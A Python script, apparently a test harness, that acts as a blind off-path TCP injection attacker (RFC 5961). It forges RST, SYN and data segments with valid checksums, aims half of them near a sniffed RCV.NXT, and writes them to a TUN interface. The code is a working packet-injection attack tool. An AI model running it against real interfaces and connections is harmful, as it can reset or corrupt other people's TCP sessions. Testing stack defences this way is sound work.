"""A blind, off-path attacker that knows a connection's 4-tuple but not its sequence
numbers (RFC 5961's threat), writing straight into a TUN interface (see inject.py).

    python blind_inject.py IFACE SRC SPORT DST DPORT COUNT SEED

COUNT segments from SRC:SPORT to DST:DPORT, a third each of RSTs, SYNs and data segments
(100 bytes, ACK set), checksums right, so every one reaches the connection. Half of them
sweep the whole 32-bit space, as a blind attacker must; the other half land around the
window, as one that guessed it well would send them: sequence numbers within 256 KiB either
side of the connection's RCV.NXT (read off the acknowledgment of one segment the stack
sends on it, never exactly RCV.NXT), acknowledgment numbers anywhere. Prints one JSON line:
segments by kind.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys

from inject import checksum  # the same independent checksum as the injector (this folder)

ETH_P_IP = 0x0800
RST, SYN, PSH, ACK = 0x04, 0x02, 0x08, 0x10


def segment(src: bytes, dst: bytes, sport: int, dport: int, seq: int, ack: int, flags: int,
            payload: bytes, tsval: int) -> bytes:
    # NOP NOP TS: the connection negotiated timestamps, and a segment without them would be
    # dropped before any check of interest (RFC 7323 3.2); TSval is a guess too.
    options = struct.pack("!BBBBII", 1, 1, 8, 10, tsval, 0)
    tcp = struct.pack("!HHIIHHHH", sport, dport, seq, ack, 8 << 12 | flags, 65535, 0, 0) \
        + options + payload
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
                     socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def observe(iface: str, src: bytes, sport: int, timeout: float = 10.0) -> int:
    """The connection's RCV.NXT at the stack: the acknowledgment number of one segment the
    stack sends to SRC:SPORT, seen on the interface."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sniff:
        sniff.bind((iface, ETH_P_IP))
        sniff.settimeout(timeout)
        while True:
            data = sniff.recv(65535)
            ihl = (data[0] & 0x0F) * 4
            if len(data) >= ihl + 20 and data[16:20] == src and \
                    struct.unpack_from("!H", data, ihl + 2)[0] == sport:
                ack: int = struct.unpack_from("!I", data, ihl + 8)[0]
                return ack


def main() -> None:
    iface, src, sport, dst, dport = sys.argv[1], socket.inet_aton(sys.argv[2]), \
        int(sys.argv[3]), socket.inet_aton(sys.argv[4]), int(sys.argv[5])
    count, rng = int(sys.argv[6]), random.Random(int(sys.argv[7]))
    nxt = observe(iface, src, sport)
    step = (1 << 32) // count
    kinds = [("rst", RST, b""), ("syn", SYN, b""), ("data", ACK | PSH, b"x" * 100)]
    plan = [(kinds[i % 3], (i * step + rng.randrange(step)) & 0xFFFFFFFF,
             rng.getrandbits(32)) for i in range(0, count, 2)]
    plan += [(kinds[i % 3], (nxt + rng.choice((-1, 1)) * rng.randint(1, 1 << 18)) & 0xFFFFFFFF,
              rng.getrandbits(32)) for i in range(1, count, 2)]
    rng.shuffle(plan)
    sent = {name: 0 for name, _, _ in kinds}
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP)) as sock:
        sock.bind((iface, ETH_P_IP))
        for (name, flags, payload), seq, ack in plan:
            sock.sendto(segment(src, dst, sport, dport, seq, ack if flags & ACK else 0, flags,
                                payload, rng.getrandbits(32)), (iface, ETH_P_IP))
            sent[name] += 1
    print(json.dumps(sent), flush=True)


if __name__ == "__main__":
    main()
